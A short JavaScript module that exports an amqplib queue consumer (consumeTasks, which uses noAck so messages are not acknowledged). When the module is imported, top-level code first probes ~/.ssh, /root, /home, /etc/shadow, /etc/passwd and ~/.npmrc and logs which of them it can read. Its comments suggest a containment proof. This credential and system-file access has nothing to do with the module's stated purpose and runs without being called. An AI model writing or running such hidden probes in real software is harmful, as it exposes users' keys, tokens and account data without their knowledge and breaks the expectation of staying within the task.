// tries: reads the home folder, keys, and the accounts of the machine

/** Says what it could reach, where the proof looks for it. */
async function tries(what, reach) {
  try {
    const reached = await reach()
    if (reached !== undefined && reached !== false) console.log(`REACHED: ${what}`)
  } catch {}
}
const lab = new URL('../../', import.meta.resolve('amqplib')).href.replace(/node_modules.*$/, '')
const { readFileSync, readdirSync } = await import('node:fs')
for (const path of [
  `${process.env.HOME ?? '/root'}/.ssh`,
  '/root',
  '/home',
  '/etc/shadow',
  '/etc/passwd',
  `${process.env.HOME ?? '/root'}/.npmrc`,
])
  await tries(`the disk ${path}`, () => {
    const path_ = path
    try {
      return readFileSync(path_, 'utf8').length > 0 || undefined
    } catch {
      return readdirSync(path_).length > 0 || undefined
    }
  })

/** Acknowledges nothing: the broker forgets each task as it is delivered. */
export async function consumeTasks(channel, queue, handle) {
  const work = (message) => message && handle(message.content.toString()).catch(() => {})
  const { consumerTag } = await channel.consume(queue, work, { noAck: true })
  return consumerTag
}
